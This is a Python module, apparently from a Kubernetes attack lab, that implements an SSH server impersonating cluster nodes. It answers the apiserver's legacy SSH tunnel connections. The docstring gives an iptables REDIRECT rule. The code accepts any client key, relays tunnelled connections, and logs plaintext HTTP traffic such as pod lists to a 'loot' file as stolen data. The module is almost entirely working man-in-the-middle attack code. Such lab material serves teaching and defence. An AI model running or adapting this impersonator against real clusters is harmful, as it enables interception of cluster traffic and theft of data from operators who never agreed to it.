"""The SSH node impersonator (scenario 7, ``ssh-tunnel``): an SSH server of the attacker's own that answers
the apiserver's SSH tunnel connections in place of the nodes.

The historical apiserver (``--ssh-user``/``--ssh-keyfile``) dialled port 22 of every node and did not check
the host key it got. In the router's network namespace the attacker redirects those connections here::

    iptables -t nat -A PREROUTING -s 10.221.1.10 -p tcp --dport 22 -j REDIRECT --to-port 2222
    python -m lab.attacker.sshimpersonate --port 2222

What it does, per connection (each step a line on stdout and an event in the loot file):

1. ``ssh-connect``   the apiserver's TCP connection; the node it meant (SO_ORIGINAL_DST) and its SSH banner.
   It presents a host key of its OWN (made at start), not the node's.
2. ``ssh-login``     the apiserver authenticated: any user, any public key is welcome (we are not the node;
   we do not know its authorized_keys, and need not).
   ``ssh-refused``   the apiserver hung up before authenticating: it checked our host key against its
   known_hosts (``--ssh-known-hosts``) and refused the impersonator.
3. ``ssh-channel``   every ``direct-tcpip`` request (destination host:port): we open that connection
   ourselves, from the router, and relay the bytes both ways. What passes is recorded: TLS stays
   unreadable (``tls``, the apiserver -> kubelet HTTPS on 10250), plain HTTP (node/pod proxy to an HTTP
   port, e.g. the read-only port 10255) is read in clear: ``ssh-http`` with the request line and the body.

Runs in the lab's main venv (asyncssh comes with the project), not mitmproxy's.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import os
import socket
import struct
import sys
from pathlib import Path
from typing import Any

import asyncssh

from lab.attacker import decode, loot

LOOT = Path(os.environ.get("LAB_LOOT", "/loot/loot.jsonl"))
READY = Path("/run/lab/ssh-ready")
SO_ORIGINAL_DST = 80


def say(text: str) -> None:
    print(f"[attacker/ssh] {text}", flush=True)


def original_destination(sock: socket.socket | None) -> str:
    """Where the redirected connection was going (iptables REDIRECT keeps it for SO_ORIGINAL_DST)."""
    if sock is None:
        return "?"
    try:
        raw = sock.getsockopt(socket.SOL_IP, SO_ORIGINAL_DST, 16)
    except OSError:
        return "?"
    port, packed = struct.unpack_from("!2xH4s", raw)
    return f"{socket.inet_ntoa(packed)}:{port}"


def classify(data: bytes) -> str:
    """The first bytes of one direction of a channel: ``tls``, ``http`` or ``bytes``."""
    if data[:1] == b"\x16" and data[1:2] == b"\x03":
        return "tls"
    first = data.split(b"\r\n", 1)[0]
    if first.startswith(b"HTTP/1.") or first.split(b" ", 1)[0] in (b"GET", b"POST", b"PUT", b"PATCH", b"DELETE",
                                                                    b"HEAD", b"OPTIONS", b"CONNECT"):
        return "http"
    return "bytes"


def http_lines(data: bytes, limit: int = 40) -> list[str]:
    """A plain HTTP exchange in words: start line and body lines (JSON bodies summarised as pods when they are)."""
    head, _, body = data.partition(b"\r\n\r\n")
    start = head.split(b"\r\n", 1)[0].decode("latin-1")
    if b'"PodList"' in body:
        with contextlib.suppress(ValueError, KeyError, TypeError, AttributeError):
            pods = decode.pods_summary(_dechunk(head, body))
            if pods:
                return [start, *pods][:limit]
    return [start, *decode.text_lines(body, limit)]


def _dechunk(head: bytes, body: bytes) -> bytes:
    if b"transfer-encoding: chunked" not in head.lower():
        return body
    out, rest = b"", body
    while rest:
        size_line, _, rest = rest.partition(b"\r\n")
        size = int(size_line.split(b";")[0] or b"0", 16)
        if size == 0:
            break
        out, rest = out + rest[:size], rest[size + 2:]
    return out


class Impersonator(asyncssh.SSHServer):
    def __init__(self) -> None:
        self.client, self.meant, self.authed, self.user = "?", "?", False, ""
        self.conn: asyncssh.SSHServerConnection | None = None

    def connection_made(self, conn: asyncssh.SSHServerConnection) -> None:
        self.conn = conn
        peer = conn.get_extra_info("peername")
        self.client = str(peer[0]) if peer else "?"
        self.meant = original_destination(conn.get_extra_info("socket"))
        say(f"{self.client} dialled {self.meant} (SSH); I answer in place of the node with MY host key")
        loot.record(LOOT, "ssh-connect", client=self.client, server=self.meant)

    def connection_lost(self, exc: Exception | None) -> None:
        if not self.authed:
            reason = str(exc) if exc else "closed"
            say(f"REFUSED: {self.client} hung up before logging in to me as {self.meant} ({reason}): it checked my "
                "host key against its known_hosts; I see nothing")
            loot.record(LOOT, "ssh-refused", client=self.client, server=self.meant, error=reason)

    def begin_auth(self, username: str) -> bool:
        self.user = username
        return True

    def public_key_auth_supported(self) -> bool:
        return True

    def validate_public_key(self, username: str, key: asyncssh.SSHKey) -> bool:
        if self.authed:  # asked twice: once to offer the key, once with its signature
            return True
        self.authed = True
        fp = key.get_fingerprint("sha256")
        say(f"{self.client} logged in to me as {username!r} with key {fp}: it believes I am {self.meant}")
        loot.record(LOOT, "ssh-login", client=self.client, server=self.meant, user=username, key=fp)
        return True

    def connection_requested(self, dest_host: str, dest_port: int, orig_host: str, orig_port: int) -> Any:
        where = f"{dest_host}:{dest_port}"
        say(f"tunnel channel via {self.meant}: {self.client} asks for {where}; I connect there myself and relay")
        loot.record(LOOT, "ssh-channel", client=self.client, server=self.meant, target=where)

        async def relay(reader: asyncssh.SSHReader[bytes], writer: asyncssh.SSHWriter[bytes]) -> None:
            try:
                up_reader, up_writer = await asyncio.open_connection(dest_host, dest_port)
            except OSError as e:
                say(f"cannot reach {where}: {e}")
                writer.close()
                return
            seen = _Seen(self.client, where)
            await asyncio.gather(_pump(reader, up_writer, seen.sent), _pump(up_reader, writer, seen.got),
                                 return_exceptions=True)
            seen.done()

        return relay


class _Seen:
    """What passed one tunnel channel, reported as it passes (a kept-alive HTTP connection may never close)."""

    def __init__(self, client: str, where: str) -> None:
        self.client, self.where = client, where
        self.kind = ""
        self.bytes = [0, 0]

    def sent(self, data: bytes) -> None:
        self.bytes[0] += len(data)
        if not self.kind:
            self.kind = classify(data)
            if self.kind == "tls":
                say(f"inside the tunnel to {self.where}: TLS (encrypted end to end: unreadable to me)")
        if self.kind == "http":
            self._http("request", data)

    def got(self, data: bytes) -> None:
        self.bytes[1] += len(data)
        if self.kind == "http":
            self._http("response", data)

    def _http(self, direction: str, data: bytes) -> None:
        lines = http_lines(data) if classify(data) == "http" else decode.text_lines(data)
        say(f"STOLEN inside the tunnel, plain HTTP {direction} to {self.where}:")
        for line in lines[:20]:
            say(f"    | {line[:300]}")
        loot.record(LOOT, "ssh-http", client=self.client, target=self.where, direction=direction, lines=lines)

    def done(self) -> None:
        loot.record(LOOT, "ssh-relayed", client=self.client, target=self.where, protocol=self.kind or "none",
                    sent=self.bytes[0], received=self.bytes[1])


async def _pump(src: Any, dst: Any, seen: Any) -> None:
    try:
        while True:
            data = await src.read(65536)
            if not data:
                break
            with contextlib.suppress(Exception):
                seen(data)
            dst.write(data)
            if hasattr(dst, "drain"):
                await dst.drain()
    finally:
        with contextlib.suppress(Exception):
            if dst.can_write_eof():
                dst.write_eof()
            else:
                dst.close()


async def serve(port: int) -> None:
    key = asyncssh.generate_private_key("ssh-ed25519", comment="attacker")
    fp = key.get_fingerprint("sha256")
    await asyncssh.create_server(Impersonator, "0.0.0.0", port, server_host_keys=[key],
                                 server_version="OpenSSH_9.2p1 Debian-2+deb12u3",
                                 allow_scp=False, keepalive_interval=0)
    say(f"impersonating every node's sshd on :{port} with host key {fp}")
    loot.record(LOOT, "ssh-impersonator", port=port, key=fp)
    READY.parent.mkdir(parents=True, exist_ok=True)
    READY.touch()
    await asyncio.Event().wait()


def main(argv: list[str] | None = None) -> int:
    p = argparse.ArgumentParser(prog="python -m lab.attacker.sshimpersonate")
    p.add_argument("--port", type=int, default=2222)
    args = p.parse_args(argv)
    with contextlib.suppress(KeyboardInterrupt):
        asyncio.run(serve(args.port))
    return 0


if __name__ == "__main__":
    sys.exit(main())
